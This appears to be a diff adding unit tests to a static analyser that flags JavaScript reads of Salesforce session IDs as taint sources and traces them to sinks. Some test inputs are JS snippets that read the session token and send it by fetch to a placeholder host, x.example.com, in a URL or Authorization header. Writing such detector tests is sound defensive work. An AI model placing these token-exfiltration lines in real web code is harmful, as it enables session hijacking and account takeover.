@@ -43,6 +43,46 @@ def test_sfdc_session_global_read_is_a_source() -> None:
     assert kinds == [SourceKind.JS_SFDC_SESSION, SourceKind.JS_SFDC_SESSION]
 
 
+def test_session_read_on_a_name_that_holds_the_connection_is_a_source() -> None:
+    """U-7: `var conn = sforce.connection; conn.sessionId` reads the toolkit's session."""
+    ir = lower("var conn = sforce.connection;\nwindow.$soap = window.sforce.connection;\n"
+               "var a = conn.sessionId;\nvar b = $soap['sessionId'];\n"
+               "fetch('https://x.example.com/?s=' + a + b);")
+    assert [(s.kind, s.text) for s in ir.sources] == [
+        (SourceKind.JS_SFORCE_SESSION, "conn.sessionId"), (SourceKind.JS_SFORCE_SESSION, "$soap.sessionId")]
+    assert set(sink(ir, "fetch").sources) == {s.id for s in ir.sources}
+
+
+def test_session_destructured_out_of_the_connection_is_a_source_and_flows_on() -> None:
+    ir = lower("const { sessionId } = sforce.connection;\n"
+               "var conn = sforce.connection;\n"
+               "let { sessionId: sid, serverUrl } = conn;\n"
+               "const { sessionId: fallback = '' } = window.sforce.connection;\n"
+               "fetch('https://x.example.com/a?s=' + sessionId);\n"
+               "fetch('https://x.example.com/b', {headers: {Authorization: sid + serverUrl + fallback}});\n")
+    assert [(s.span.start_line, s.span.start_col) for s in ir.sources] == [(1, 9), (3, 7), (4, 9)]
+    assert all(s.kind == SourceKind.JS_SFORCE_SESSION for s in ir.sources)
+    a, b = sorted((u for u in ir.url_uses if u.sink == "fetch"), key=lambda u: u.span)
+    assert a.url == "https://x.example.com/a?s={sforce.connection.sessionId}" and a.in_query
+    assert set(b.sources) == {ir.sources[1].id, ir.sources[2].id} and b.header_or_body
+
+
+def test_session_id_of_other_objects_is_not_a_source() -> None:
+    code = ("var conn = makeChat();\nvar a = conn.sessionId;\nconst { sessionId } = conn;\n"
+            "const { sessionId: s } = { sessionId: 'x' };\nvar c = sforce.connection; c.sessionId = token;\n"
+            "({ sessionId } = sforce.connection);\n")
+    assert [s.span.start_line for s in lower(code).sources] == [6]  # the assignment's pattern reads it
+
+
+def test_sfdc_session_global_read_by_subscript_is_a_source() -> None:
+    """U-7: `window['__sfdcSessionId']` is the global as `window.__sfdcSessionId` is."""
+    ir = lower("var s = window['__sfdcSessionId'];\nconsole.log(s);\nwindow['__sfdcSessionId'] = t;\n"
+               "var k = {'__sfdcSessionId': 1};")
+    assert [(s.kind, s.text, s.span.start_line) for s in ir.sources] == [
+        (SourceKind.JS_SFDC_SESSION, "window.__sfdcSessionId", 1)]
+    assert sink(ir, "console.log").sources == (ir.sources[0].id,)
+
+
 def test_mentions_in_comments_and_strings_are_not_sources() -> None:
     code = (
         "// sforce.connection.sessionId is read elsewhere\n"
